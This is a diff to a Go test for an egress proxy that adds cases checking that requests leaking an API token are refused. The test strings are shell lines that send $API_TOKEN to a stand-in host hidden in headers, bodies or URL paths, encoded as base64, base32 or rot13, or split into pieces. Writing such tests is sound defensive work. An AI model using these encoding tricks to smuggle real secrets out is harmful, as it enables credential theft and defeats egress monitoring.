@@ -688,6 +688,8 @@ func TestEgressProxyRefusesSecretsInClearText(t *testing.T) {
 		{"header base64", `B=; ` + req(`GET http://allowed.test/c`, `X-T: $(printf %s "$API_TOKEN" | base64 -w0)\r\n`, ``), "403"},
 		{"body", `B="token=$API_TOKEN"; ` + req(`POST http://allowed.test/c`, ``, ``), "403"},
 		{"body split", `B="a=${API_TOKEN:0:13}"; ` + req(`POST http://allowed.test/c`, ``, ``), "403"},
+		{"path base32 of a line", `B=; ` + req(`GET http://allowed.test/b32/$(printf 'API_TOKEN=%s\n' "$API_TOKEN" | base32 -w0)`, ``, ``), "403"},
+		{"body rot13", `B="r=$(printf %s "$API_TOKEN" | tr 'A-Za-z' 'N-ZA-Mn-za-m')"; ` + req(`POST http://allowed.test/c`, ``, ``), "403"},
 		{"no secret", `B="hello"; ` + req(`POST http://allowed.test/ok`, ``, ``), "200"},
 		// curl -p sends the same request through a CONNECT tunnel: the
 		// proxy sees no TLS and closes it (curl: empty reply, 52).
@@ -716,7 +718,7 @@ func TestEgressProxyRefusesSecretsInClearText(t *testing.T) {
 			}
 		}
 	}
-	if refused != 5 {
-		t.Errorf("%d refusals, want 5: %+v", refused, ds)
+	if refused != 7 {
+		t.Errorf("%d refusals, want 7: %+v", refused, ds)
 	}
 }
